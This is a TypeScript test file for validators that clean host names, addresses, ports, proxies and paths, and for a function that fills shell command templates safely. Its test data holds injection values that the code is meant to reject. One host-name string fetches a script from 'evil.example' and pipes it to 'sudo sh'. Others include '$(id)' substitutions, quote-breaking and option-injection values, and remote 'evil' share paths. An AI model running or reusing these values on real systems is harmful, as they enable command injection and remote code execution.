import { describe, expect, test } from 'vitest';
import { commandOf, slotsOf } from '../../src/commands/command.ts';
import { host, hostName, ipAddress, isRemotePath, path, port, proxyAddress } from '../../src/commands/values.ts';

describe('values', () => {
  test.each([
    ['login.microsoft.com', true],
    ['a_b.example', true],
    ['vm01', true],
    ['x;curl -s http://evil.example/i.sh|sudo sh;#', false],
    ['a\nb', false],
    ['-oProxyCommand', false],
    ['a..b', false],
    ['a-.b', false],
    ['1.2.3', false],
    ['', false],
    ['$(id)', false],
    ['ａ.example', false],
    [`${'a'.repeat(64)}.example`, false],
    [`${'a.'.repeat(130)}example`, false],
  ])('%j is a host name: %s', (value, wanted) => {
    expect(hostName(value)).toBe(wanted ? value : null);
  });

  test.each([
    ['10.0.0.4', true],
    ['168.63.129.16', true],
    ['fd00::1', true],
    ['::', true],
    ['1:2:3:4:5:6:7:8', true],
    ['::ffff:10.0.0.4', true],
    ['256.0.0.1', false],
    ['01.2.3.4', false],
    ['fe80::1%eth0', false],
    ['1::2::3', false],
    ['10.0.0.4/24', false],
    ['1:2:3', false],
  ])('%s is an address: %s', (value, wanted) => {
    expect(ipAddress(value)).toBe(wanted ? value : null);
    if (wanted) expect(host(value)).toBe(value);
  });

  test('ports are whole numbers from 1 to 65535', () => {
    expect(['443', '65535', '0', '65536', '4e2', '-1', ' 443', '0443'].map(port)).toEqual([
      '443',
      '65535',
      ...Array.from({ length: 6 }, () => null),
    ]);
  });

  test.each([
    ['http://10.0.0.4:8080', { host: '10.0.0.4', port: '8080' }],
    ['proxy01.example.local:3128', { host: 'proxy01.example.local', port: '3128' }],
    ['http://user:p@ss@proxy01:8080/', { host: 'proxy01', port: '8080' }],
    ['http=10.0.0.5:80;https=10.0.0.4:8080', { host: '10.0.0.4', port: '8080' }],
    ['http://[fd00::1]:8080', { host: 'fd00::1', port: '8080' }],
    ['http://$(id):8080', null],
    ['http://10.0.0.4', null],
    ['', null],
  ])('the proxy of %s', (value, wanted) => {
    expect(proxyAddress(value)).toEqual(wanted);
  });

  test('paths hold nothing that a shell reads, and those of other machines are known', () => {
    expect(path('C:\\Logs (1)\\')).toBe('C:\\Logs (1)');
    expect(path(' /var/tmp/ログ/ ')).toBe('/var/tmp/ログ');
    for (const bad of ['-rf', '', '/tmp/$(id)', 'C:\\a;b', '/tmp/`id`', "a'b", 'a"b', 'a\nb', 'a\u202Eb'])
      expect(path(bad)).toBeNull();
    expect(['\\\\evil\\share', '//evil/share', '\\/evil', '"\\\\evil'].every(isRemotePath)).toBe(true);
    expect(['C:\\Logs', '/var/tmp', 'a//b'].some(isRemotePath)).toBe(false);
  });
});

describe('commands', () => {
  test.each([
    ['nc -vz {host} {port}', 'bash', { host: 'a.example', port: 443 }, 'nc -vz a.example 443'],
    ['curl -I https://{host}', 'bash', { host: 'fd00::1' }, "curl -I 'https://[fd00::1]'"],
    ['curl -I https://{host}', 'bash', { host: 'x;id' }, 'curl -I https://HOST_NAME'],
    ["$h='{host}'; f {port}", 'powershell', { host: 'a.example', port: 1433 }, "$h='a.example'; f 1433"],
    ["$h='{host}'", 'powershell', { host: "a';id;'" }, "$h='HOST_NAME'"],
    ['cd {folder}', 'powershell', { folder: 'C:\\My Logs' }, "cd 'C:\\My Logs'"],
    ['cd {folder}', 'bash', { folder: '/tmp/a b' }, "cd '/tmp/a b'"],
    ['cd "{folder}"', 'bash', { folder: '/tmp/a b' }, 'cd "FOLDER"'],
    ['curl -w "%{http_code} {port}" {host}', 'bash', { port: 80, host: 'a' }, 'curl -w "%{http_code} 80" a'],
    ['f {host} ({ $true }) -w %{x}', 'powershell', { host: 'a' }, 'f a ({ $true }) -w %{x}'],
    ['nc -vz {host} {port}', 'bash', {}, 'nc -vz HOST_NAME PORT_NUMBER'],
  ] as const)('%s for %s with %j', (template, shell, values, wanted) => {
    expect(commandOf(template, values, shell)).toBe(wanted);
  });

  test('a slot that nothing can fill is an error of the content', () => {
    expect(slotsOf('nc -vz {host} {port} {host}')).toEqual(['host', 'port']);
    expect(() => slotsOf('nc {hots}')).toThrow(RangeError);
  });
});
